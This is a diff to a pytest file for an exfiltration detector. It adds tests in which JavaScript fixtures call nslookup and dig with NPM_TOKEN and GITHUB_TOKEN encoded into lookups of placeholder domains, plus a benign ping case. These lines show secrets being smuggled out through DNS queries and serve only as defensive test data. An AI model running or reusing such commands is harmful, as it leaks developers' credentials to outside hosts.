@@ -84,3 +84,26 @@ def test_a_credential_printed_by_a_command_and_sent_out(code: str) -> None:
 )
 def test_command_output_that_is_no_theft(code: str) -> None:
     assert not _exfiltrated(code)
+
+
+@pytest.mark.parametrize(
+    ("code", "zone"),
+    [
+        (
+            CP
+            + "exec('nslookup ' + Buffer.from(process.env.NPM_TOKEN || '').toString('hex') + '.d.example.invalid');",
+            "d.example.invalid",
+        ),
+        (CP + "exec(`dig +short ${process.env.GITHUB_TOKEN}.x.example.net`);", "x.example.net"),
+    ],
+    ids=["nslookup-concatenated", "dig-template"],
+)
+def test_a_token_spelled_into_a_dns_query(code: str, zone: str) -> None:
+    flows = analyze_source("index.js", code.encode(), Dialect.JAVASCRIPT).flows.flows
+    (flow,) = [f for f in flows if is_exfiltration(f)]
+    assert flow.sink.destination == zone
+
+
+def test_pinging_a_configured_host_sends_nothing() -> None:
+    code = CP + "execSync('ping -c 1 ' + process.env.HEALTH_HOST);"
+    assert not _exfiltrated(code)
